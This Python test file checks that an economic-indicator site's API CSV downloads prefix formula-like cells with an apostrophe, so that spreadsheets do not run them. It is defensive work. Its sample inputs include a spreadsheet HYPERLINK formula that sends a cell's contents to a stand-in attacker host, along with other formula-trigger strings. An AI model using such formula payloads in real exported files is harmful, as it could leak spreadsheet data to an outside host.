"""The indicator API's CSV files (`api/indicators/<id>.csv`) are downloads like the figures' CSVs:
a text cell a spreadsheet would run as a formula gets render.csv_safe's `'` prefix; numbers, and
numbers written as text, stay as they are."""
from __future__ import annotations

import csv

import pandas as pd
import pytest

from macros import indicators, site_output

INDICATOR = "us_partner_effective_duty_rate"  # a dimension (partner) that comes from the data
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Korea")', "+SUM(A1:A9)", "-2+3",
           "@cmd", "\t=1"]


def _write(tmp_path, monkeypatch, frame: pd.DataFrame) -> list[dict]:
    monkeypatch.setattr(indicators, "REGISTRY", {INDICATOR: indicators.REGISTRY[INDICATOR]})
    monkeypatch.setattr(indicators, "observations", lambda indicator_id: frame)
    site_output.write_api(tmp_path)
    with (tmp_path / "api" / "indicators" / f"{INDICATOR}.csv").open(newline="",
                                                                    encoding="utf-8") as f:
        return list(csv.DictReader(f))


def _hostile(dtype: str) -> pd.DataFrame:
    frame = indicators.observations(INDICATOR).head(len(HOSTILE) + 2).copy()
    partners = HOSTILE + ["KOREA, SOUTH", "-"]
    return frame.assign(partner=pd.Series(partners, index=frame.index, dtype=dtype),
                        vintage=pd.Series(["-65.7"] * len(frame), index=frame.index,
                                          dtype=dtype))


@pytest.mark.parametrize("dtype", [
    "string",  # pandas' StringDtype, as the data's dimension columns are read
    "object",
    "str",  # pandas 3's default string dtype
])
def test_api_csv_cells_are_spreadsheet_safe(tmp_path, monkeypatch, dtype):
    rows = _write(tmp_path, monkeypatch, _hostile(dtype))
    assert [r["partner"] for r in rows] == ["'" + h for h in HOSTILE] + ["KOREA, SOUTH", "-"]
    assert {r["vintage"] for r in rows} == {"-65.7"}  # a number written as text is left alone
    real = indicators.observations(INDICATOR).head(len(rows))
    assert [float(r["value"]) for r in rows] == pytest.approx(real["value"].round(9).tolist())


def test_api_csv_of_real_data_is_unchanged_by_csv_safe(tmp_path, monkeypatch):
    """Nothing in today's data looks like a formula: the prefix changes no published cell."""
    frame = indicators.observations(INDICATOR)
    rows = _write(tmp_path, monkeypatch, frame)
    assert [r["partner"] for r in rows] == frame["partner"].tolist()
